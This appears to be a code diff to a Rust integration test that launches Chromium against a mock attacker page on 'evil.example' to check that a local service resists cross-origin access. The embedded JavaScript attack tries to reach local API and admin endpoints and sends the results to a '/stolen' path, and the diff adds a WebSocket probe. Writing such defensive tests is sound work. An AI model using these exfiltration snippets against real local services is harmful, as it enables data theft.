@@ -50,6 +50,10 @@ addEventListener('message', (event) => fetch('/stolen?message=' + escape(event.d
         frame.srcdoc = `<script>fetch('${url}', { method: 'POST', mode: 'no-cors', body: '${json}' })<\/script>`;
       }));
     }
+    attempts.push(new Promise((resolve) => {
+      const socket = new WebSocket(route.replace('http', 'ws') + '/socket');
+      Object.assign(socket, { onclose: resolve, onopen: () => fetch('/stolen?socket') });
+    }));
     attempts.push(post(pin, { method: 'PATCH', headers: { 'content-type': 'application/json' } }));
     for (const url of [api + '/buffers', api + REPLAY, route + '/list', admin + '/v1/status', admin + '/metrics']) {
       attempts.push(fetch(url).then(steal, () => 0), fetch(url, simple).then(steal, () => 0));
@@ -63,7 +67,6 @@ addEventListener('message', (event) => fetch('/stolen?message=' + escape(event.d
   }
   await Promise.all(attempts);
   await fetch('/done?' + attempts.length);
-  document.body.textContent = 'attempts: ' + attempts.length;
 })();
 </script>"#;
 
@@ -81,8 +84,7 @@ fn html(text: String) -> crate::harness::Reply {
     page
 }
 
-/// Returns a command that loads a URL in a new Chromium and prints the document after its scripts
-/// have run.
+/// Returns a command that loads a URL in a new Chromium, which stays open.
 fn chromium(profile: &Path, url: &str) -> Command {
     let mut chromium = Command::new("chromium");
     chromium.args([
@@ -93,27 +95,44 @@ fn chromium(profile: &Path, url: &str) -> Command {
         "--no-first-run",
         "--no-proxy-server",
         "--host-resolver-rules=MAP evil.example 127.0.0.1",
-        "--virtual-time-budget=20000",
-        "--dump-dom",
     ]);
     chromium.arg(format!("--user-data-dir={}", profile.display()));
     // Downloads go below the home directory.
     chromium.arg(url).env("HOME", profile);
     chromium.stdin(Stdio::null()).stderr(Stdio::piped());
-    chromium.kill_on_drop(true);
+    chromium.stdout(Stdio::null()).kill_on_drop(true);
     chromium
+}
+
+/// Opens the page of the attacker until it has tried everything for the `runs`-th time.
+async fn run_attack(profile: &Path, url: &str, evil: &Origin, runs: usize) {
+    let mut browser = chromium(profile, url);
+    let mut browser = browser.stderr(Stdio::null()).spawn().unwrap();
+    loop {
+        let count = evil.arrivals.count();
+        let all = evil.arrivals.all();
+        if all.iter().filter(|a| a.uri == "/done?157").count() == runs {
+            break;
+        }
+        evil.arrivals.reached(count + 1).await;
+    }
+    browser.kill().await.unwrap();
 }
 
 /// Loads a page and returns its document.
 async fn dump(profile: &Path, url: &str) -> String {
-    let output = chromium(profile, url).output();
-    let output = soon("the end of Chromium", output).await.unwrap();
+    let mut chromium = chromium(profile, url);
+    chromium.arg("--dump-dom").stdout(Stdio::piped());
+    let output = soon("the end of Chromium", chromium.output())
+        .await
+        .unwrap();
     String::from_utf8_lossy(&output.stdout).into_owned()
 }
 
 /// Opens a URL that Chromium stores as a file, and waits until it has given up showing a page.
 async fn download(profile: &Path, url: &str) {
-    let mut browser = chromium(profile, url).spawn().unwrap();
+    let mut browser = chromium(profile, url);
+    let mut browser = browser.arg("--dump-dom").spawn().unwrap();
     let mut lines = BufReader::new(browser.stderr.take().unwrap()).lines();
     let given_up = async {
         while let Some(line) = lines.next_line().await.unwrap() {
@@ -173,10 +192,9 @@ async fn p10_closed_no_page_in_chromium_gets_in() {
         )
         .replace("REPLAY", &format!("'{replay}'"));
     let profile = tempfile::tempdir().unwrap();
-    for host in ["evil.example", "localhost"] {
+    for (index, host) in ["evil.example", "localhost"].into_iter().enumerate() {
         let url = format!("http://{host}:{}/attack", evil.plain.port());
-        let dom = dump(profile.path(), &url).await;
-        assert!(dom.contains("attempts: 154"), "{host}: {dom}");
+        run_attack(profile.path(), &url, &evil, index + 1).await;
     }
     // A user who opens a stored page gets a file. Its script does not run.
     let stored = format!("http://localhost:{api}{replay}");
